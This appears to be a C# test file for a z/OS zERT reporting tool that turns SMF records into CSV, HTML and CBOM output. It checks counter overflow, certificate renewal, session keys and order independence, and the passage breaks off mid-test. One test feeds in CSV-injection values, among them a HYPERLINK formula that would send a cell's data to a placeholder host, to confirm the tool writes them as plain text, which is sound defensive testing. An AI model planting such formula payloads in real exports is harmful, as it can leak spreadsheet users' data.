using System.Globalization;
using ZertForwarder.Generator;
using ZertForwarder.Generator.Model;
using ZertForwarder.Host.Tests.Support;
using ZertForwarder.Reporting;
using Xunit.Abstractions;

namespace ZertForwarder.Host.Tests.Reporting;

/// <summary>
/// The <c>report</c> verb over records written for one question each: generated records whose models are changed
/// (job names and DNs a spreadsheet would run, counters no real connection reaches) and written again with the
/// generator's record writer, read by the real executable.
/// </summary>
public sealed class ReportCraftedRecordTests(ITestOutputHelper output) : IDisposable
{
    private static readonly TimeSpan RunLimit = TimeSpan.FromMinutes(2);
    private readonly TempDirectory _work = new();

    public void Dispose() => _work.Dispose();

    private async Task<ForwarderResult> Report(params string[] args)
    {
        var result = await ForwarderProcess.RunAsync(_work.Path, ["report", .. args], RunLimit);
        output.WriteLine(result.ToString());
        return result;
    }

    /// <summary>Generated connection records (119-11) of z/OS as a TLS server that name both certificates.</summary>
    private static List<ZertConnectionRecord> TlsServerConnections() => SmfDumpGenerator.GenerateRecords(7, 400, includeForeignRecords: false)
        .Select(r => r.Connection)
        .OfType<ZertConnectionRecord>()
        .Where(c => c.Common.EventType == 4 && (c.Common.Flags & 0x10) != 0 && c.Tls is { ServerCertificate: not null }
            && c.DistinguishedNames.Any(d => d.Type == 5))
        .ToList();

    private string WriteDump(string name, IEnumerable<byte[]> records)
    {
        var path = _work.Combine(name);
        File.WriteAllBytes(path, records.SelectMany(r => r).ToArray());
        return path;
    }

    /// <summary>
    /// The 119-12 interval summary of a connection's TLS session (layout §3: the session's server, port, client and
    /// significant attributes), written <paramref name="later"/> than the connection record for an interval of
    /// <paramref name="intervalMinutes"/>, with the server certificate's facts a summary before z/OS 3.2 has (no serial,
    /// no not-after) and the server subject DN. Its counters say 3 connections, 3000 bytes in and 9000 out.
    /// </summary>
    private static ZertSummaryRecord TlsSummaryOf(ZertConnectionRecord c, TimeSpan later, int intervalMinutes, CertificateAttributes? serverCertificate)
    {
        var summary = new ZertSummaryRecord();
        summary.Header.SystemId = c.Header.SystemId;
        summary.Header.Date = c.Header.Date;
        summary.Header.Time = (uint)(c.Header.Time + (long)later.TotalMilliseconds / 10);
        summary.Identification.SysplexName = c.Identification.SysplexName;
        summary.Identification.SystemName = c.Identification.SystemName;
        summary.Identification.StackName = c.Identification.StackName;
        summary.Identification.ReleaseId = c.Identification.ReleaseId;
        summary.Common.IntervalDuration = (ulong)TimeSpan.FromMinutes(intervalMinutes).TotalMicroseconds << 12;
        summary.Common.Flags = 0x40; // local socket is the server
        summary.Common.SecurityProtocol = 0x80;
        summary.Common.JobName = c.Common.JobName;
        summary.Common.UserId = c.Common.UserId;
        summary.Common.ServerIp = c.Common.LocalIp;
        summary.Common.ClientIp = c.Common.RemoteIp;
        summary.Common.ServerPortStart = c.Common.LocalPort;
        summary.Common.ServerPortEnd = c.Common.LocalPort;
        summary.Common.SessionId = "T-SYSATCPIP-00000001";
        summary.Common.InitConnections = 10;
        summary.Common.EndConnections = 13;
        summary.Common.EndInBytes = 3000;
        summary.Common.EndOutBytes = 9000;
        var t = c.Tls!;
        summary.Tls = new TlsSummarySection
        {
            Source = t.Source,
            ProtocolVersion = t.ProtocolVersion,
            NegotiatedCipher = t.NegotiatedCipher,
            CipherEncryptionAlgorithm = t.CipherEncryptionAlgorithm,
            CipherMessageAuthentication = t.CipherMessageAuthentication,
            CipherKeyExchange = t.CipherKeyExchange,
            ServerCertificate = serverCertificate,
        };
        summary.DistinguishedNames.AddRange(c.DistinguishedNames.Where(d => d.Type is 5 or 6));
        return summary;
    }

    /// <summary>Every file <c>report</c> wrote to <paramref name="directory"/>, by name.</summary>
    private Dictionary<string, byte[]> ReportBytes(string directory) =>
        Directory.GetFiles(_work.Combine(directory)).ToDictionary(f => Path.GetFileName(f), File.ReadAllBytes, StringComparer.Ordinal);

    /// <summary>The same six files, byte for byte, in both report directories.</summary>
    private void AssertSameReport(string expectedDirectory, string actualDirectory)
    {
        var expected = ReportBytes(expectedDirectory);
        var actual = ReportBytes(actualDirectory);
        Assert.Equal(6, expected.Count);
        Assert.Equal(expected.Keys.Order(StringComparer.Ordinal), actual.Keys.Order(StringComparer.Ordinal));
        foreach (var (name, bytes) in expected)
        {
            // As text, so a difference is shown where it is; every file is UTF-8 text.
            if (!bytes.AsSpan().SequenceEqual(actual[name])) Assert.Equal($"{name}:\n{System.Text.Encoding.UTF8.GetString(bytes)}", $"{name}:\n{System.Text.Encoding.UTF8.GetString(actual[name])}");
        }
    }

    /// <summary>
    /// Job names and DNs come from the records: one that starts with =, +, - or @ is a formula to a spreadsheet that
    /// opens the CSV file (CSV injection, e.g. =HYPERLINK(...) sending data elsewhere). The CSV files write such a text
    /// field with a leading apostrophe, so it is shown as text; numbers stay numbers, and the page shows the value as it is.
    /// </summary>
    [Fact]
    public async Task Text_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text_in_the_csv_files()
    {
        string[] jobs = ["=1+2", "+SUM(1)", "@CMD", "-2+3"];
        var records = TlsServerConnections().Take(jobs.Length).Select((c, i) =>
        {
            c.Common.JobName = jobs[i];
            c.Common.ConnectionId = 9_000_000u + (uint)i;
            c.DistinguishedNames.First(d => d.Type == 5).Name = i == 0 ? "=HYPERLINK(\"http://x.example/\"&A1,\"open\")" : $"CN=server{i}";
            return ZertRecordWriter.ToArray(c);
        }).ToList();
        Assert.Equal(jobs.Length, records.Count);
        var dump = WriteDump("formulas.smf", records);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());

        foreach (var file in CsvReport.FileNames)
        {
            var text = File.ReadAllText(_work.Combine("r", file));
            foreach (var line in text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries))
            {
                // No field, quoted or not, starts with a formula character.
                Assert.DoesNotMatch(@"(^|,)""?[=+\-@]", line);
            }
        }
        var servers = ReportFiles.ReadCsv(_work.Combine("r", "servers.csv"));
        Assert.Equal(jobs.Select(j => "'" + j).Order(StringComparer.Ordinal), servers.Select(s => s["job"]).Order(StringComparer.Ordinal));
        Assert.All(servers, s => Assert.Equal(1, s.Long("connections")));
        var sessions = ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv"));
        Assert.Contains(sessions, s => s["server_cert_subject"] == "'=HYPERLINK(\"http://x.example/\"&A1,\"open\")");

        // The page is no spreadsheet: it shows the values as they are (HTML-escaped).
        var page = File.ReadAllText(_work.Combine("r", "report.html"));
        Assert.Contains("<td>=1+2</td>", page, StringComparison.Ordinal);
        Assert.Contains("<td>=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;open&quot;)</td>", page, StringComparison.Ordinal);
    }

    /// <summary>
    /// Byte counters are 8-byte fields; a damaged or hand-made record can hold any value. Summed over a row they
    /// wrapped round to a negative total when one client had them, and the report stopped with an OverflowException
    /// and a stack trace (exit 134, servers.csv cut off) when several clients had them. A total that does not fit is
    /// the largest number instead, and a counter past 2^63 counts as that, not as 0.
    /// </summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Counters_too_big_to_add_up_give_the_largest_total_rather_than_a_negative_one_or_a_crash(bool severalClients)
    {
        var connection = SmfDumpGenerator.GenerateRecords(7, 400, includeForeignRecords: false).Select(r => r.Connection).OfType<ZertConnectionRecord>()
            .First(c => c.Common.EventType == 4 && (c.Common.Flags & 0x10) != 0 && c.Common.SecurityProtocols == 0);
        var records = new List<byte[]>();
        for (var i = 0u; i < 3; i++)
        {
            connection.Common.ConnectionId = 100 + i;
            connection.Common.InBytes = (1UL << 62) + i;
            connection.Common.OutBytes = ulong.MaxValue - i;
            if (severalClients) connection.Common.RemoteIp = System.Net.IPAddress.Parse($"10.99.0.{i + 1}");
            records.Add(ZertRecordWriter.ToArray(connection));
        }
        var dump = WriteDump("huge.smf", records);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.DoesNotContain("Exception", result.Stderr, StringComparison.Ordinal);
        var max = long.MaxValue.ToString(CultureInfo.InvariantCulture);
        var server = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "servers.csv")));
        Assert.Equal(3, server.Long("connections"));
        Assert.Equal(max, server["bytes_in"]);
        Assert.Equal(max, server["bytes_out"]);
        Assert.Equal(max, server["bytes_none"]);
        var clients = ReportFiles.ReadCsv(_work.Combine("r", "clients.csv"));
        Assert.Equal(severalClients ? 3 : 1, clients.Count);
        Assert.All(clients, c => Assert.True(c.Long("bytes_in") > 0 && c.Long("bytes_out") > 0, string.Join(",", c.Values)));
        var session = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv")), s => s["client_ip"] == clients[0]["client_ip"]);
        Assert.True(session.Long("bytes_in") > 0, string.Join(",", session.Values));
    }

    /// <summary>
    /// Counts read from ECS are at least 0: a summary delta past 2^63 - 1 is an end below its start (the normalizer
    /// subtracts unsigned fields), a negative one can only be hand-made; a life-to-date counter past 2^63 - 1 is the
    /// largest number.
    /// </summary>
    [Fact]
    public void Counts_read_from_ecs_are_never_negative()
    {
        using var summary = System.Text.Json.JsonDocument.Parse("""
            {"@timestamp":"2026-03-02T08:00:00.000Z","event":{"dataset":"zos.zert_summary"},"zos":{"zert":{"event_type":1,
             "summary":{"connections":{"delta":-5},"bytes_in":{"delta":18446744073709551615},"bytes_out":{"delta":12}}}}}
            """);
        var s = ReportRecord.FromEcs(summary.RootElement)!;
        Assert.Equal((0L, 0L, 12L), (s.SummaryConnections, s.SummaryBytesIn, s.SummaryBytesOut));
        using var connection = System.Text.Json.JsonDocument.Parse("""
            {"@timestamp":"2026-03-02T08:00:00.000Z","event":{"dataset":"zos.zert_connection"},"zos":{"zert":{"event_type":3,
             "connection_id":7,"bytes_in":-7,"bytes_out":18446744073709551615}}}
            """);
        var c = ReportRecord.FromEcs(connection.RootElement)!;
        Assert.Equal((0L, long.MaxValue), (c.LifeBytesIn, c.LifeBytesOut));
    }

    /// <summary>
    /// A server certificate renewed during the report (same subject, new serial and not-after) is one security session
    /// with two certificates. Only the first one seen was kept: sessions.csv went on showing the expired certificate
    /// after its renewal, and the renewed one, in use at the end, was in neither the CBOM nor the expiry chart.
    /// </summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_renewed_certificate_is_in_the_cbom_and_the_page_and_the_session_shows_the_newest(bool renewedFirstInFile)
    {
        var connection = TlsServerConnections()[0];
        var certificate = connection.Tls!.ServerCertificate!;
        var records = new List<byte[]>();
        // The renewed certificate a minute later; first in the file or second: input order does not decide which is newest.
        var expired = (Id: 500u, Serial: (byte)0x12, NotAfter: new DateTime(2026, 1, 1, 0, 0, 0, DateTimeKind.Utc), Minutes: 0);
        var renewed = (Id: 501u, Serial: (byte)0x45, NotAfter: new DateTime(2028, 1, 1, 0, 0, 0, DateTimeKind.Utc), Minutes: 1);
        foreach (var (id, serial, notAfter, minutes) in renewedFirstInFile ? new[] { renewed, expired } : [expired, renewed])
        {
            connection.Common.ConnectionId = id;
            connection.Header.Time += (uint)(minutes * 6000);
            certificate.Serial = [0x01, serial, 0x03];
            certificate.NotAfter = notAfter;
            records.Add(ZertRecordWriter.ToArray(connection));
            connection.Header.Time -= (uint)(minutes * 6000);
        }
        var dump = WriteDump("renewed.smf", records);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());

        var session = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv")));
        Assert.Equal(2, session.Long("connections"));
        Assert.Equal("014503", session["server_cert_serial"]);
        Assert.Equal("2028-01-01T00:00:00.000Z", session["server_cert_not_after"]);
        // The expired certificate was in use during the report: the verdict keeps it.
        Assert.Contains("cert:expired", session["assessment_reasons"], StringComparison.Ordinal);

        using var bom = System.Text.Json.JsonDocument.Parse(File.ReadAllText(_work.Combine("r", "cbom.cdx.json")));
        var certificates = bom.RootElement.GetProperty("components").EnumerateArray()
            .Where(c => c.GetProperty("cryptoProperties").GetProperty("assetType").GetString() == "certificate")
            .ToList();
        string Serial(System.Text.Json.JsonElement c) => c.TryGetProperty("properties", out var p) ? p[0].GetProperty("value").GetString()! : "";
        var server = certificates.Where(c => Serial(c) is "011203" or "014503").ToList();
        Assert.Equal(new Dictionary<string, string?> { ["011203"] = "2026-01-01T00:00:00.000Z", ["014503"] = "2028-01-01T00:00:00.000Z" },
            server.ToDictionary(Serial, c => c.GetProperty("cryptoProperties").GetProperty("certificateProperties").GetProperty("notValidAfter").GetString()));
        // The service uses both.
        var dependency = Assert.Single(bom.RootElement.GetProperty("dependencies").EnumerateArray());
        var uses = dependency.GetProperty("dependsOn").EnumerateArray().Select(d => d.GetString()).ToHashSet();
        Assert.All(server, c => Assert.Contains(c.GetProperty("bom-ref").GetString(), uses));

        // The page's expiry chart has both.
        var page = File.ReadAllText(_work.Combine("r", "report.html"));
        var data = System.Text.RegularExpressions.Regex.Match(page, "<script id=\"report-data\" type=\"application/json\">(.*?)</script>", System.Text.RegularExpressions.RegexOptions.Singleline);
        using var chart = System.Text.Json.JsonDocument.Parse(data.Groups[1].Value);
        var notAfters = chart.RootElement.GetProperty("certificates").EnumerateArray().Select(c => c.GetProperty("notAfter").GetString()).ToList();
        Assert.Contains("2026-01-01T00:00:00.000Z", notAfters);
        Assert.Contains("2028-01-01T00:00:00.000Z", notAfters);
    }

    /// <summary>
    /// An SSH client that authenticates with an X.509 certificate (DN types 11 and 12, zos.zert.ssh.client.x509): the
    /// session's client certificate columns, the CBOM and the expiry chart have it, as they have TLS client certificates.
    /// They left it out, so an SSH client certificate about to expire was in no view of the report.
    /// </summary>
    [Fact]
    public async Task An_ssh_client_certificate_is_in_the_session_the_cbom_and_the_expiry_chart()
    {
        var connection = SmfDumpGenerator.GenerateRecords(7, 3000, includeForeignRecords: false).Select(r => r.Connection).OfType<ZertConnectionRecord>()
            .First(c => c.Common.EventType is 3 or 4 && (c.Common.Flags & 0x10) != 0 && c.Ssh is { ClientCertificate: not null } && c.DistinguishedNames.Any(d => d.Type == 11));
        connection.DistinguishedNames.First(d => d.Type == 11).Name = "CN=BATCH.SFTP.CLIENT,O=Example Bank,C=US";
        connection.Ssh!.ClientCertificate!.Serial = [0x0C, 0x11, 0xE7];
        connection.Ssh.ClientCertificate.NotAfter = new DateTime(2026, 3, 20, 12, 0, 0, DateTimeKind.Utc);
        var dump = WriteDump("ssh-client-cert.smf", [ZertRecordWriter.ToArray(connection)]);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());

        var session = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv")));
        Assert.Equal("ssh", session["protocol"]);
        Assert.Equal("CN=BATCH.SFTP.CLIENT,O=Example Bank,C=US", session["client_cert_subject"]);
        Assert.Equal("0C11E7", session["client_cert_serial"]);
        Assert.Equal("2026-03-20T12:00:00.000Z", session["client_cert_not_after"]);

        using var bom = System.Text.Json.JsonDocument.Parse(File.ReadAllText(_work.Combine("r", "cbom.cdx.json")));
        var certificate = Assert.Single(bom.RootElement.GetProperty("components").EnumerateArray(), c => c.GetProperty("cryptoProperties").GetProperty("assetType").GetString() == "certificate"
            && c.GetProperty("cryptoProperties").GetProperty("certificateProperties").GetProperty("subjectName").GetString() == "CN=BATCH.SFTP.CLIENT,O=Example Bank,C=US");
        Assert.Equal("2026-03-20T12:00:00.000Z", certificate.GetProperty("cryptoProperties").GetProperty("certificateProperties").GetProperty("notValidAfter").GetString());
        var dependency = Assert.Single(bom.RootElement.GetProperty("dependencies").EnumerateArray());
        Assert.Contains(certificate.GetProperty("bom-ref").GetString(), dependency.GetProperty("dependsOn").EnumerateArray().Select(d => d.GetString()));

        var page = File.ReadAllText(_work.Combine("r", "report.html"));
        var data = System.Text.RegularExpressions.Regex.Match(page, "<script id=\"report-data\" type=\"application/json\">(.*?)</script>", System.Text.RegularExpressions.RegexOptions.Singleline);
        using var chart = System.Text.Json.JsonDocument.Parse(data.Groups[1].Value);
        Assert.Contains(chart.RootElement.GetProperty("certificates").EnumerateArray(), c => c.GetProperty("notAfter").GetString() == "2026-03-20T12:00:00.000Z");
    }
    /// <summary>
    /// A certificate whose key size the record does not give (SMF119SC_TLS_SCert_Key_Len 0) has a public key named by its
    /// family alone, "RSA", which is also the table's RSA algorithm (mappings/cbom/algorithms.json). The CBOM made
    /// "crypto/algorithm/RSA" from whichever named it first: from such a key it had no classical security level and no
    /// crypto functions, so the same algorithm asset changed with the order of the sessions. It is the table's entry.
    /// </summary>
    [Fact]
    public async Task A_public_key_without_a_size_is_the_tables_algorithm_in_the_cbom()
    {
        var connection = TlsServerConnections()[0];
        connection.Tls!.ProtocolVersion = 0x0304;
        connection.Tls.NegotiatedCipher = "1301  "; // TLS_AES_128_GCM_SHA256: names no RSA of its own
        connection.Tls.ServerCertificate!.KeyType = 2; // V.15 RSA
        connection.Tls.ServerCertificate.KeyLength = 0;
        var dump = WriteDump("keyless.smf", [ZertRecordWriter.ToArray(connection)]);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());

        using var bom = System.Text.Json.JsonDocument.Parse(File.ReadAllText(_work.Combine("r", "cbom.cdx.json")));
        var components = bom.RootElement.GetProperty("components").EnumerateArray().ToDictionary(c => c.GetProperty("bom-ref").GetString()!);
        var key = components["crypto/key/RSA"].GetProperty("cryptoProperties").GetProperty("relatedCryptoMaterialProperties");
        Assert.Equal("crypto/algorithm/RSA", key.GetProperty("algorithmRef").GetString());
        Assert.False(key.TryGetProperty("size", out _));
        var rsa = components["crypto/algorithm/RSA"].GetProperty("cryptoProperties").GetProperty("algorithmProperties");
        Assert.Equal("pke", rsa.GetProperty("primitive").GetString());
        Assert.Equal(112, rsa.GetProperty("classicalSecurityLevel").GetInt32());
        Assert.Equal(0, rsa.GetProperty("nistQuantumSecurityLevel").GetInt32());
        Assert.Equal(["encapsulate", "decapsulate"], rsa.GetProperty("cryptoFunctions").EnumerateArray().Select(f => f.GetString()!).ToArray());
    }
    /// <summary>
    /// CycloneDX gives every BOM its own serial number. It was derived from the assets alone, so a report of more records
    /// (or of a later period) that saw the same assets had the same serial number as the first, with other metadata.
    /// </summary>
    [Fact]
    public async Task The_same_assets_in_other_records_get_another_cbom_serial_number_and_the_same_records_the_same()
    {
        var record = ZertRecordWriter.ToArray(TlsServerConnections()[0]);
        var once = WriteDump("once.smf", [record]);
        var twice = WriteDump("twice.smf", [record, record]);

        foreach (var (dump, output) in new[] { (once, "a"), (twice, "b"), (once, "c") })
        {
            var result = await Report(dump, "--out", output);
            Assert.True(result.ExitCode == 0, result.ToString());
        }

        System.Text.Json.Nodes.JsonNode Bom(string output) => System.Text.Json.Nodes.JsonNode.Parse(File.ReadAllText(_work.Combine(output, "cbom.cdx.json")))!;
        var (a, b, c) = (Bom("a"), Bom("b"), Bom("c"));
        Assert.Equal(a["components"]!.ToJsonString(), b["components"]!.ToJsonString());
        Assert.NotEqual(a["serialNumber"]!.GetValue<string>(), b["serialNumber"]!.GetValue<string>());
        Assert.Equal(a["serialNumber"]!.GetValue<string>(), c["serialNumber"]!.GetValue<string>());
    }

    /// <summary>
    /// A summary before z/OS 3.2 names the session's server certificate without serial or not-after, so it cannot say
    /// which of a renewed certificate's two it describes. Its facts (here the key size, which the connection records do
    /// not give) went to whichever of the two had been read first: the same records in another order (dumps given the
    /// other way round, records shuffled) gave another sessions.csv, page and CBOM. They complete every certificate of
    /// the session that they may describe, whatever the order.
    /// </summary>
    [Fact]
    public async Task The_same_records_in_any_order_give_the_same_report_byte_for_byte()
    {
        var connection = TlsServerConnections()[0];
        var certificate = connection.Tls!.ServerCertificate!;
        certificate.KeyLength = 0; // the connection records do not give the key size
        var records = new List<byte[]>();
        foreach (var (id, serial, notAfter, minutes) in new[] { (500u, (byte)0x12, new DateTime(2026, 1, 1, 0, 0, 0, DateTimeKind.Utc), 0), (501u, (byte)0x45, new DateTime(2028, 1, 1, 0, 0, 0, DateTimeKind.Utc), 1) })
        {
            connection.Common.ConnectionId = id;
            connection.Header.Time += (uint)(minutes * 6000);
            certificate.Serial = [0x01, serial, 0x03];
            certificate.NotAfter = notAfter;
            records.Add(ZertRecordWriter.ToArray(connection));
            connection.Header.Time -= (uint)(minutes * 6000);
        }
        var summaryCertificate = new CertificateAttributes
        {
            SignatureMethod = certificate.SignatureMethod, EncryptionMethod = certificate.EncryptionMethod, DigestAlgorithm = certificate.DigestAlgorithm,
            KeyType = certificate.KeyType, KeyLength = 2048,
        };
        records.Add(ZertRecordWriter.ToArray(TlsSummaryOf(connection, TimeSpan.FromMinutes(5), intervalMinutes: 15, summaryCertificate)));

        int[][] orders = [[0, 1, 2], [1, 0, 2], [2, 1, 0], [2, 0, 1]];
        for (var i = 0; i < orders.Length; i++)
        {
            var dump = WriteDump($"order{i}.smf", orders[i].Select(k => records[k]));
            var result = await Report(dump, "--out", $"r{i}");
            Assert.True(result.ExitCode == 0, result.ToString());
        }
        // The same records as two dumps, given one way and the other.
        var first = WriteDump("first.smf", records.Take(2));
        var second = WriteDump("second.smf", records.Skip(2));
        foreach (var (inputs, output) in new[] { (new[] { first, second }, "forward"), ([second, first], "backward") })
        {
            var result = await Report([.. inputs, "--out", output]);
            Assert.True(result.ExitCode == 0, result.ToString());
        }

        foreach (var output in new[] { "r1", "r2", "r3", "forward", "backward" }) AssertSameReport("r0", output);
        // Both certificates are completed with the summary's key size.
        var session = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r0", "sessions.csv")));
        Assert.Equal("014503", session["server_cert_serial"]);
        Assert.Equal("2048", session["server_cert_key_size"]);
    }

    /// <summary>
    /// IPsec names its IKE certificates local and remote (layout §2.5 LclCert / RmtCert, DN types 1-4), not server and
    /// client. A session's key named the local certificate whatever the role, so where z/OS is the client the sessions
    /// of one server were told apart by z/OS's own certificate, and two servers' certificates behind one address were
    /// one session with one of them in sessions.csv. The key names the server's certificate, as for TLS and SSH: the
    /// remote one when z/OS is the client.
    /// </summary>
    [Fact]
    public async Task An_ipsec_session_where_zos_is_the_client_is_told_apart_by_the_servers_certificate()
    {
        var connection = SmfDumpGenerator.GenerateRecords(7, 3000, includeForeignRecords: false).Select(r => r.Connection).OfType<ZertConnectionRecord>()
            .First(c => c.Common.EventType == 4 && c.Common.IpProtocol == 6 && c.Common.SecurityProtocols == 0x20 && c.Ipsec is not null);
        connection.Common.Flags = (byte)((connection.Common.Flags & 0x80) | 0x08); // local socket is the TCP client
        connection.DistinguishedNames.Clear();
        connection.DistinguishedNames.Add(new DistinguishedNameEntry(1, "CN=ZOS.IKE.LOCAL,O=Example Bank"));
        var records = new List<byte[]>();
        foreach (var (id, server) in new[] { (700u, "CN=PARTNER.GW1,O=Partner"), (701u, "CN=PARTNER.GW2,O=Partner") })
        {
            connection.Common.ConnectionId = id;
            connection.DistinguishedNames.RemoveAll(d => d.Type == 3);
            connection.DistinguishedNames.Add(new DistinguishedNameEntry(3, server));
            records.Add(ZertRecordWriter.ToArray(connection));
        }
        var dump = WriteDump("ipsec-client.smf", records);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());

        var sessions = ReportFiles.ReadCsv(_work.Combine("r", "sessions.csv"));
        Assert.Equal(2, sessions.Count);
        Assert.All(sessions, s =>
        {
            Assert.Equal(("ipsec", "client"), (s["protocol"], s["role"]));
            Assert.Equal("CN=ZOS.IKE.LOCAL,O=Example Bank", s["client_cert_subject"]);
            Assert.Equal(1, s.Long("connections"));
        });
        Assert.Equal(["CN=PARTNER.GW1,O=Partner", "CN=PARTNER.GW2,O=Partner"], sessions.Select(s => s["server_cert_subject"]).Order(StringComparer.Ordinal));
    }

    /// <summary>
    /// A connection that starts inside a summary's interval is counted by that summary (layout §3: the session's
    /// life-to-date connection count at the interval's end includes it). When its first connection record comes after
    /// the interval, in a gap of the recording (aggregation switched off, a short connection's only record written at its
    /// end), that record counted it a second time. It adds its bytes and no connection.
    /// </summary>
    [Fact]
    public async Task A_connection_started_in_a_summary_interval_whose_record_falls_in_a_gap_is_counted_once()
    {
        var connection = TlsServerConnections()[0];
        Assert.Equal(4, connection.Common.EventType); // a short connection: its one record is written at its end
        var recordTime = connection.Header.Date.ToDateTime(TimeOnly.MinValue, DateTimeKind.Utc).AddMilliseconds(connection.Header.Time * 10.0);
        connection.Common.SetStart(recordTime.AddSeconds(-8));
        connection.Common.SetEnd(recordTime);
        connection.Common.InBytes = 400;
        connection.Common.OutBytes = 600;
        // The interval ends 4 s after the connection started and 4 s before its record; no summary follows.
        var summary = TlsSummaryOf(connection, TimeSpan.FromSeconds(-4), intervalMinutes: 15, connection.Tls!.ServerCertificate);
        var dump = WriteDump("gap.smf", [ZertRecordWriter.ToArray(summary), ZertRecordWriter.ToArray(connection)]);

        var result = await Report(dump, "--out", "r");
        Assert.True(result.ExitCode == 0, result.ToString());

        var server = Assert.Single(ReportFiles.ReadCsv(_work.Combine("r", "servers.csv")));
        Assert.Equal(3, server.Long("connections"));
        Assert.Equal(3000 + 400, server.Long("bytes_in"));
        Assert.Equal(9000 + 600, server.Long("bytes_out"));
        Assert.Equal("11+12", server["counted_from"]);
    }

    /// <summary>
    /// The counting rule decided per record in input order which record of a connection was its first (one connection)
    /// and what growth of its byte counters each added; so a generated dump with its records shuffled, or read as two
    /// halves given the other way round, gave other connection and byte counts wherever a connection had records both
    /// inside and outside the summaries' intervals. A connection's records are now placed in time by the first reading.
    /// </summary>
    [Fact]
    public async Task A_generated_dump_shuffled_or_given_in_two_parts_the_other_way_round_gives_the_same_report()
    {
        var records = SmfDumpGenerator.GenerateRecords(11, 20_000).ToList();
        var offsets = ExpectedCounts.UtcOffsets(records);
        var whole = WriteDump("whole.smf", records.Select(r => r.Bytes));
        var random = new Random(5);
        var shuffled = WriteDump("shuffled.smf", records.Select(r => r.Bytes).OrderBy(_ => random.Next()));
        var firstHalf = WriteDump("first-half.smf", records.Take(records.Count / 2).Select(r => r.Bytes));
        var secondHalf = WriteDump("second-half.smf", records.Skip(records.Count / 2).Select(r => r.Bytes));
        foreach (var (inputs, output) in new[] { ([whole], "whole"), ([shuffled], "shuffled"), (new[] { secondHalf, firstHalf }, "swapped") })
        {
            var result = await Report([.. inputs, "--utc-offset", offsets, "--out", output]);
            Assert.True(result.ExitCode == 0, result.ToString());
        }

        // The dump has connections counted from both subtypes (a gap in the summaries), the case that differed.
        Assert.Contains(ReportFiles.ReadCsv(_work.Combine("whole", "servers.csv")), s => s["counted_from"] == "11+12");
        AssertSameReport("whole", "shuffled");
        AssertSameReport("whole", "swapped");
    }

    /// <summary>
    /// A TLS session is zERT's: server, port, client and the significant attributes of the 119-12 TLS section (layout
    /// §3.2: version, suite, and the IBM encryption, MAC and key exchange codes). The report's key had the suite but not
    /// the IBM codes, so TLS 1.3 records of one suite (which names no key exchange, RFC 8446 §B.4) with two key exchange
    /// codes were one session whose key_exchange column was the first record's: the order of the records decided it.
    /// They are two sessions, each with its own, in any order.
    /// </summary>
    [Fact]
    public async Task Tls_records_of_one_suite_with_another_key_exchange_are_two_sessions_in_any_order()
    {
        var connection = TlsServerConnections()[0];
        connection.Tls!.ProtocolVersion = 0x0304;
        connection.Tls.NegotiatedCipher = "1301  "; // TLS_AES_128_GCM_SHA256
        var records = new List<byte[]>();
        // Codes past the end of the known part of table V.7 (the TLS 1.3 groups are expected there).
        foreach (var (id, keyExchange) in new[] { (800u, (ushort)0x0010), (801u, (ushort)0x0011) })
        {
            connection.Common.ConnectionId = id;
            connection.Tls.CipherKeyExchange = keyExchange;
            records.Add(ZertRecordWriter.ToArray(connection));
        }
        foreach (var (order, output) in new[] { (new[] { 0, 1 }, "a"), ([1, 0], "b") })
        {
            var result = await Report(WriteDump($"{output}.smf", order.Select(i => records[i])), "--out", output);
            Assert.True(result.ExitCode == 0, result.ToString());
        }

        var sessions = ReportFiles.ReadCsv(_work.Combine("a", "sessions.csv"));
        Assert.Equal(2, sessions.Count);
        Assert.Equal(2, sessions.Select(s => s["key_exchange"]).Distinct().Count());
        Assert.All(sessions, s => Assert.Equal(1, s.Long("connections")));
        AssertSameReport("a", "b");
    }

    /// <summary>
    /// A connection record whose DN walk stops (layout §2.7: the issuer entry's DN_Len is below its own 4-byte header)
    /// was rejected whole, so its connection was in no output and no view of the report, and its certificate not in the
    /// CBOM. It is decoded with the entry read before the stop: every format writes it, the raw decode keeps the unread
    /// bytes, and the report and the CBOM have the session and its certificate by subject, without an issuer.
    /// </summary>
    [Fact]
    public async Task A_record_whose_dn_walk_stopped_is_in_every_format_the_report_and_the_cbom()
    {
        const string subject = "CN=walk.example.com,O=Example";
        var connection = TlsServerConnections()[0];
        connection.DistinguishedNames.Clear();
        connection.DistinguishedNames.Add(new(5, subject));
        connection.DistinguishedNames.Add(new(6, "CN=Unread Issuing CA,O=Example"));
        var bytes = ZertRecordWriter.ToArray(connection);
        var dnOffset = (int)System.Buffers.Binary.BinaryPrimitives.ReadUInt32BigEndian(bytes.AsSpan(28 + 6 * 8)); // S6 triplet (§1.2)
        var issuerEntry = dnOffset + 4 + subject.Length;
        System.Buffers.Binary.BinaryPrimitives.WriteUInt16BigEndian(bytes.AsSpan(issuerEntry), 2);
        var dump = WriteDump("dn-walk-stopped.smf", [bytes]);

        var raw = await ForwarderProcess.RunAsync(_work.Path, ["decode", dump, "--format", "json"], RunLimit);
        Assert.True(raw.ExitCode == 0, raw.ToString());
        using (var json = System.Text.Json.JsonDocument.Parse(raw.Stdout))
        {
            var entry = Assert.Single(json.RootElement.GetProperty("SMF119SC_DN_Entries").EnumerateArray());
            Assert.Equal(subject, entry.GetProperty("SMF119SC_DN").GetString());
            Assert.Equal(1, json.RootElement.GetProperty("SMF119SC_DN_UnwalkedCount").GetInt32());
